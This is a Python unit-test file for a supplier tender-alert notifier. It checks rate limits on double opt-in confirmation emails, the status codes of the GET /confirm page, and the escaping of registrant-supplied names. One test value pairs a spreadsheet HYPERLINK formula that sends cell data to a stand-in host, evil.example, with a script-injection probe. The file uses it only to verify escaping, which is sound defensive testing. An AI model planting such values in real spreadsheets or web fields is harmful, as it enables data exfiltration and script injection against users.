"""Double opt-in's limits, against the notifier's fakes:

- an address gets at most one confirmation email per ``notifier_confirmation_min_interval_days``, whatever supplier
  registered it and however often (five suppliers, the same address in any case, removed and added again): the
  others wait their turn, across restarts; accepting one confirms the address for the supplier it names only; the
  subject is fixed text (what a registrant typed is in the escaped body only);
- ``GET /confirm`` checks what the POST would check: a link that can no longer confirm shows why, with the POST's
  status (404 supplier deleted, 410 address removed or registered again), no button; JSON on request; no write.
"""

from __future__ import annotations

from datetime import timedelta

import pytest

from contracts import SupplierProfile
from contracts.supplier import EmailConfirmation
from services.notifier.domain.pages import PAGE_LABELS
from services.notifier.domain.rendering import LABELS
from tests.unit.notifier.factories import NOW, profile
from tests.unit.notifier.rig import AGENCY, REGISTERED, Rig, confirm_link, http, metric, seed, text, unit_settings

pytestmark = pytest.mark.unit

VICTIM = "victim@example.org"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click") <script>alert(1)</script>'


def bomb(supplier_id: str, address: str = VICTIM, *, at: object = REGISTERED, **kw: str) -> SupplierProfile:
    base = profile(supplier_id, emails=[address], **kw)
    entry = EmailConfirmation(registered_by=AGENCY, registered_at=at)
    return base.model_copy(update={"email_confirmations": {address: entry}})


def keys(rig: Rig) -> list[str]:
    return [k.split("|")[0] for k in rig.keys_sent()]


# -- one confirmation email per address and interval ------------------------------------------------------


def test_five_registrations_of_one_address_send_it_one_email_then_one_per_interval(rig: Rig) -> None:
    seed(rig, *(bomb(f"qa-bomb-{i}", VICTIM if i % 2 else VICTIM.upper().replace("EXAMPLE.ORG", "example.org"))
                for i in range(5)))  # fmt: skip
    n = rig.notifier()
    n.confirmations.send_confirmations()
    assert keys(rig) == ["qa-bomb-0"]
    assert metric(n, "notifier_confirmations_held_total") == 4

    rig.now += timedelta(days=29)
    n.confirmations.send_confirmations()
    for p in [rig.profiles.get(f"qa-bomb-{i}") for i in range(5)]:  # the profiles published again meanwhile
        assert p is not None
        rig.profiles.put(p)
    rig.notifier(
        instance_id="n2"
    ).confirmations.send_confirmations()  # another instance, or a restart: the turn is in the store
    assert keys(rig) == ["qa-bomb-0"]

    rig.now += timedelta(days=1, seconds=1)
    n.confirmations.send_confirmations()
    assert keys(rig) == ["qa-bomb-0", "qa-bomb-1"]
    n.confirmations.send_confirmations()
    assert keys(rig) == ["qa-bomb-0", "qa-bomb-1"]


def test_registering_the_address_again_and_again_is_held_too(rig: Rig) -> None:
    seed(rig, bomb("a"))
    n = rig.notifier()
    n.confirmations.send_confirmations()
    for minutes in (1, 2, 3):  # the supplier's own key removes and adds the address: a new registration each time
        seed(rig, bomb("a", at=REGISTERED + timedelta(minutes=minutes)))
        n.confirmations.send_confirmations()
    assert len(rig.mail.sent) == 1


def test_no_limit_when_the_interval_is_zero(rig: Rig) -> None:
    rig.settings = unit_settings(notifier_confirmation_min_interval_days=0)
    seed(rig, *(bomb(f"s{i}") for i in range(3)))
    rig.notifier().confirmations.send_confirmations()
    assert keys(rig) == ["s0", "s1", "s2"]


def test_the_subject_is_fixed_and_what_the_registrant_typed_stays_in_the_escaped_body(rig: Rig) -> None:
    seed(rig, bomb("a", name=EVIL), bomb("z", "other@example.org", name=EVIL, language="zh-Hans"))
    rig.notifier().confirmations.send_confirmations()
    en, zh = rig.mail.sent
    assert (
        str(en["Subject"])
        == LABELS["en"]["subject_confirmation"]
        == "Please confirm your tender alerts from tenderbridge"
    )
    assert str(zh["Subject"]) == LABELS["zh-Hans"]["subject_confirmation"]
    assert "HYPERLINK" not in str(en["Subject"]) + str(zh["Subject"])
    html = en.get_body(preferencelist=("html",))
    assert html is not None
    assert "&lt;script&gt;" in str(html.get_content())
    assert "<script>" not in str(html.get_content())
    body = text(en)
    assert "for " + EVIL + " only" in body  # the email says what confirming covers
    assert "every 30 days" in body


def test_accepting_confirms_the_address_for_the_supplier_named_in_the_email_only(rig: Rig) -> None:
    seed(rig, bomb("first"), bomb("second"))
    n, client = http(rig)
    n.confirmations.send_confirmations()
    [sent] = rig.mail.sent
    assert client.post(confirm_link(sent)).status_code == 200
    first, second = rig.profiles.get("first"), rig.profiles.get("second")
    assert first is not None
    assert second is not None
    assert first.alert_emails() == [VICTIM]
    assert second.alert_emails() == []


# -- GET /confirm checks what the POST would ----------------------------------------------------------------


def test_the_page_of_a_deleted_supplier_shows_no_button_and_the_posts_404(rig: Rig) -> None:
    seed(rig, bomb("a", language="zh-Hans"))
    n, client = http(rig)
    n.confirmations.send_confirmations()
    link = confirm_link(rig.mail.sent[0])
    assert '<form method="post"' in client.get(link).text  # live while the supplier exists
    del rig.matcher.profiles["a"]
    page = client.get(link)
    assert page.status_code == client.post(link).status_code == 404
    assert "<form" not in page.text
    assert PAGE_LABELS["zh-Hans"]["confirm_deleted_text"].format(address=VICTIM) in page.text
    as_json = client.get(link, headers={"Accept": "application/json"})
    assert as_json.status_code == 404
    assert as_json.headers["content-type"].startswith("application/problem+json")
    assert rig.matcher.replaced == []


def test_the_page_of_a_removed_or_registered_again_address_shows_no_button_and_the_posts_410(rig: Rig) -> None:
    seed(rig, bomb("a"))
    n, client = http(rig)
    n.confirmations.send_confirmations()
    link = confirm_link(rig.mail.sent[0])
    seed(rig, bomb("a", at=NOW))  # registered again since the email
    page = client.get(link)
    assert page.status_code == client.post(link).status_code == 410
    assert "<form" not in page.text
    assert PAGE_LABELS["en"]["confirm_gone_text"] in page.text
    seed(rig, profile("a", emails=["else@example.org"]))  # removed
    assert client.get(link).status_code == 410
    assert client.get(link, headers={"Accept": "application/json"}).status_code == 410
    assert rig.matcher.replaced == []


def test_the_page_answers_json_on_request_and_says_when_the_address_is_confirmed_already(rig: Rig) -> None:
    seed(rig, bomb("a"))
    n, client = http(rig)
    n.confirmations.send_confirmations()
    link = confirm_link(rig.mail.sent[0])
    wanted = {"supplier_id": "a", "address": VICTIM}
    assert client.get(link, headers={"Accept": "application/json"}).json() == {**wanted, "confirmed": False}
    assert rig.matcher.replaced == []  # a GET writes nothing
    assert client.post(link).status_code == 200
    assert client.get(link, headers={"Accept": "application/json"}).json() == {**wanted, "confirmed": True}
    page = client.get(link)
    assert page.status_code == 200
    assert "<form" not in page.text
    assert PAGE_LABELS["en"]["confirmed_title"] in page.text
    rig.matcher.down = True
    assert client.get(link).status_code == 503


@pytest.mark.parametrize(
    ("language", "intro"),
    [
        ("zh-Hans", "宁波医疗有限公司 在 tenderbridge 上登记了此邮箱（a@example.org），用于接收本公司的招标提醒。"),
        ("en", "Ningbo Medical Co. has registered this address (a@example.org) on tenderbridge to receive its tender"),
    ],
)
def test_a_supplier_that_registered_its_own_address_is_named_once(language: str, intro: str) -> None:
    from services.notifier.domain.rendering import render_confirmation

    # The supplier's own key registers under its English name; a Chinese email must not read like two companies.
    mail = render_confirmation(profile(language=language), "a@example.org", "Ningbo Medical Co.", "https://x/c")
    assert intro in mail.text
    assert "Ningbo Medical Co." not in mail.text or language == "en"
    agency = render_confirmation(profile(language=language), "a@example.org", "UNICEF", "https://x/c")
    assert "UNICEF" in agency.text
